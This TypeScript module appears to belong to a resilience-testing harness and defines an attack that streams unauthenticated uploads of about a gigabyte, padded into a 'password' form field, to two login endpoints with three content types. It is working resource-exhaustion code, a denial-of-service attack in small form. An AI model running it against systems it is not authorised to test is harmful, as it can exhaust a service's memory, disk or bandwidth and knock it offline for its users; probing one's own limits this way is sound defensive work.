import { type Attack, scaled } from "../attack.ts";
import { fire } from "../calls.ts";

const gigabyte = 1024 ** 3;
const block = Buffer.alloc(256 * 1024, "x");
const types = ["multipart/form-data; boundary=x", "application/octet-stream", "application/json"];

/** A form with one part of this many bytes. */
function* upload(bytes: number): Generator<Buffer> {
  yield Buffer.from('--x\r\ncontent-disposition: form-data; name="password"\r\n\r\n');
  for (let sent = 0; sent < bytes; sent += block.length) yield block;
  yield Buffer.from("\r\n--x--\r\n");
}

export const attack: Attack = {
  title: "uploads of 1 GB without a login",
  async stage(target, scale) {
    const bytes = scaled(gigabyte, scale);
    return async (assault) => {
      for (const path of ["/trpc/users.login", "/api/users/login/"])
        for (const type of types) {
          const headers = { "content-type": type };
          await fire(target, { method: "POST", path, headers, body: upload(bytes) }, assault);
        }
    };
  },
};
